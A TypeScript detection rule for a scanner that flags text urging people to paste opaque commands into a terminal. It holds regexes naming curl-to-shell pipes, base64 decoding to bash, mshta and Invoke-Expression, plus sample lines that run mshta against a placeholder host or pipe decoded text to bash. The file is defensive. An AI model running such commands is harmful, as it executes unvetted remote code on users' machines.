import { findUrls } from '../../behaviour/find-urls.ts';
import { judgeSource, type SourceTrust } from '../../behaviour/judge-source.ts';
import { defineRule } from '../define-rule.ts';
import { nearKeywords } from '../near-keywords.ts';

const place = String.raw`(?:terminal|console|command (?:line|prompt)|powershell|\bcmd\b|\bshell\b|run (?:dialog|box|window)|iterm|spotlight)`;
const order = String.raw`(?:\b(?:copy|paste|enter|type|drop|drag|run|execute)\b[^\n]{0,140}\b(?:in(?:to|side)?|on|via|using|with)\b[^\n]{0,30}${place}|\bopen\b[^\n]{0,30}${place}[^\n]{0,80}\b(?:paste|run|execute|enter|type)\b|\bpress\b[^\n]{0,20}(?:win(?:dows)?(?: key)?\s{0,3}\+\s{0,3}(?:r|x)|cmd\s{0,3}\+\s{0,3}space|⌘)[^\n]{0,160}\b(?:paste|type|enter|run)\b|\bcopy\b[^\n]{0,60}\b(?:command|script|code|snippet)\b[^\n]{0,60}\b(?:paste|run|execute)\b)`;

/** A command that its reader cannot judge. */
const opaque =
  /\bbase64\s{1,4}(?:-\w{1,8}\s{1,4}){0,2}(?:-d|-D|--decode)|[A-Za-z0-9+/]{60,}={0,2}|\bxattr\s{1,4}-\w{1,3}|com\.apple\.quarantine|spctl\s[^\n]{0,20}disable|(?:curl|wget|iwr|irm)\b[^\n]{0,200}\|\s{0,4}(?:sudo\s)?(?:ba|z)?sh\b|\biex\b|osascript\s{1,4}-e|-enc(?:odedcommand)?\s{1,4}[A-Za-z0-9+/]{20}|mshta\b|\bInvoke-Expression\b/i;

const untrusted: ReadonlySet<SourceTrust> = new Set(['anonymous', 'unknown']);

export const pasteToTerminal = defineRule({
  reads: 'text',
  id: 'delivery/paste-to-terminal',
  title: 'Asks the human to paste a command they cannot judge',
  severity: 'critical',
  confidence: 0.85,
  lane: 'enforce',
  category: 'SOCIAL_ENGINEERING',
  ideas: [19],
  kinds: 'all',
  cwe: [829, 451],
  owasp: ['LLM01:2025', 'ASI09', 'AST01'],
  atlas: ['T0011.003', 'T0073'],
  why: 'A person who pastes the command runs it outside the agent’s sandbox and approvals, with everything their account may do.',
  fix: 'Show a short command in plain text that installs from a package registry or the maker’s own site.',
  fixable: 'deterministic',
  proof: { source: 'the human is asked to paste', sink: 'the command to be run' },
  targets: ['prose'],
  keywords: [
    'terminal',
    'console',
    'command prompt',
    'command line',
    'powershell',
    'paste',
    'win+r',
    'windows + r',
    'win + r',
    ' shell',
  ],
  check: nearKeywords({
    pattern: new RegExp(order, 'gi'),
    reach: 400,
    accept: (match, { artefact, view }) => {
      const end = match.index + match[0].length;
      const start = Math.max(0, match.index - 240);
      const after = view.text.slice(end, end + 700).split(/\n#{1,6} /)[0] ?? '';
      const text = view.text.slice(start, end) + after;
      const command = match[0] + after;
      const urls = findUrls(text).map((url) => judgeSource(url, artefact));
      const isUntrusted = urls.some((trust) => untrusted.has(trust));
      const isAnonymous = urls.includes('anonymous');
      const isOpaque = opaque.test(command);
      const isFetched = /\b(?:visit|go to|open|navigate to|from|at)\b[^\n]{0,80}https?:\/\//i.test(
        text,
      );
      const isCopied = /\bcopy\b[^\n]{0,80}\b(?:command|script|code|snippet|text|line)/i.test(text);
      if (
        /base64|[A-Za-z0-9+/]{60,}/.test(command) &&
        isOpaque &&
        /-d\b|-D\b|--decode|-enc/i.test(command)
      )
        return { severity: 'critical' };
      if (isOpaque && isUntrusted) return { severity: 'critical' };
      if (isAnonymous && (isFetched || isCopied)) return { severity: 'critical' };
      if (isUntrusted && isFetched && isCopied) return { severity: 'high' };
      return false;
    },
  }),
  examples: {
    bad: [
      {
        text: '**macOS**: open Terminal and paste the following command:\n\n```\necho "ZWNobyBoaSB0aGVyZSwgdGhpcyBpcyBqdXN0IGEgdGVzdA==" | base64 -D | bash\n```\n',
        lines: [1],
      },
      {
        text: 'Visit https://setup.quickcore.test/mac, copy the installation script and paste it into your terminal.\n',
        lines: [1],
      },
      {
        text: 'Press Win+R, paste this and hit Enter: `mshta https://cdn.quickcore.test/check`\n',
        lines: [1],
      },
    ],
    good: [
      {
        text: 'Open a terminal and run `npm install`.\n',
        because: 'a plain command from a registry',
      },
      {
        text: 'Copy the command from https://docs.docker.com/engine/install/ and run it in your terminal.\n',
        because: 'the maker’s own page',
      },
      {
        text: 'Run the tests in the terminal and paste the output here.\n',
        because: 'nothing is fetched',
      },
    ],
  },
});
